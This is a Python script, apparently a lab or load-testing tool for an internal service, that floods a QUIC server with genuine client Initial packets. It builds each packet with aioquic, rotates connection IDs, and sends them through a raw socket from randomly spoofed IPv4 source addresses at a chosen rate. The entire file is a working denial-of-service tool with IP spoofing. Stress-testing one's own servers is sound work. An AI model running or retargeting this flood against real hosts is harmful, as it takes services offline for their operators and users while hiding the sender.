"""A flood of QUIC Initials from spoofed IPv4 sources (run as root inside a namespace).

    python initial_flood.py <target ip> <port> <seconds> <rate per s> <spoofed source cidr>

Each packet is a genuine client first flight (aioquic, a fresh connection ID each time),
sent through a raw socket with a random source address of the CIDR, so the server's answer
(a Retry, or its handshake flight) goes to nobody. Prints {"sent": n} at the end.
"""

from __future__ import annotations

import ipaddress
import json
import random
import signal
import socket
import struct
import sys
import time

from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection


def initial(target: tuple[str, int]) -> bytes:
    quic = QuicConnection(
        configuration=QuicConfiguration(
            is_client=True,
            alpn_protocols=["cyphonic-sig/1"],
            server_name="nms.svc.cyphonic.internal",
        )
    )
    quic.connect(target, now=time.monotonic())
    return quic.datagrams_to_send(now=time.monotonic())[0][0]


def checksum(header: bytes) -> int:
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(src: str, dst: str, sport: int, dport: int, payload: bytes) -> bytes:
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # no UDP checksum
    header = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(udp),
        random.getrandbits(16),
        0,
        64,
        socket.IPPROTO_UDP,
        0,
        socket.inet_aton(src),
        socket.inet_aton(dst),
    )
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + udp


def main() -> None:
    dst, port, seconds, rate = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
    sources = ipaddress.ip_network(sys.argv[5])
    stop: list[int] = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    pool = [initial((dst, port)) for _ in range(64)]
    sent, started = 0, time.monotonic()
    while not stop and (now := time.monotonic()) - started < seconds:
        if sent >= (now - started) * rate:
            time.sleep(0.002)
            continue
        if sent % 4 == 0:  # fresh connection IDs as fast as the CPU allows
            pool[random.randrange(len(pool))] = initial((dst, port))
        src = str(sources[random.randrange(1, sources.num_addresses - 1)])
        payload = pool[random.randrange(len(pool))]
        raw.sendto(packet(src, dst, random.randrange(1024, 65535), port, payload), (dst, 0))
        sent += 1
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - started, 2)}))


if __name__ == "__main__":
    main()
